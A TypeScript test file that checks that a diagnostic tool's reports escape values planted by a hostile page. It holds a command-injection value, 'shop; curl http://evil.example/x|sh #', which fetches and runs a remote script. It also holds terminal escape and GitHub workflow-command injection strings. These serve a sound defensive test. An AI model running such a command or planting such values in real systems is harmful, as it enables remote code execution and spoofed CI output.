// What the doctor prints of values that a hostile page has written.
import { expect, test } from 'vitest'
import type { Examination } from '../../../packages/doctor/examine.ts'
import { fault } from '../../../packages/doctor/findings.ts'
import { REPORTS } from '../../../packages/doctor/report.ts'
import { checkPartners } from '../../../packages/doctor/rules/partner.ts'
import type { PageFacts } from '../../../packages/doctor/facts.ts'

const SHELL = 'shop; curl http://evil.example/x|sh #'

const examinationOf = (text: string): Examination => ({
  url: 'https://shop.example/',
  server: 'https://atelier.example',
  isExamined: true,
  findings: [
    {
      ...fault('partner-unknown', {
        title: `The page says ${text}.`,
        detail: text,
        fix: { instruction: text, lines: [text] },
      }),
      help: 'https://atelier.example/help',
    },
  ],
})

const refusedBy = (partner: string, isOriginListed: boolean) =>
  checkPartners({
    document: { url: 'https://shop.example/help', html: '', tags: [] },
    server: {
      url: 'https://atelier.example',
      isUp: true,
      isApiUp: true,
      partners: [{ partner, isAllowed: false, isOriginListed }],
    },
  } as unknown as PageFacts)

test.each(['text', 'json', 'github'] as const)(
  'no value of a page is a command of a terminal or of a workflow in a report as %s',
  (format) => {
    const hostile =
      'a\u001B[2J\u009B1m\n::error file=x::b\r\u2028::set-output name=c::d\u202Ee\u0085'
    const report = REPORTS[format](examinationOf(hostile), 'Chromium')
    expect(report.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202A-\u202E]/u)
    expect(report.split('\n').filter((line) => /^\s*::(?!error title=Atelier)/.test(line))).toEqual(
      [],
    )
  },
)

test.each([true, false])(
  'a partner name that is more than a word is shown as JSON, and in no command (origin listed: %s)',
  (isOriginListed) => {
    const [finding] = refusedBy(SHELL, isOriginListed)
    expect(finding!.title).toContain(JSON.stringify(SHELL))
    expect(finding!.fix.lines).toEqual([])
  },
)

test('a plain partner name comes with the command for the operator', () => {
  const [finding] = refusedBy('shop', false)
  expect(finding!.title).toContain('“shop”')
  expect(finding!.fix.lines).toEqual(['npm run partner -- add shop https://shop.example'])
})
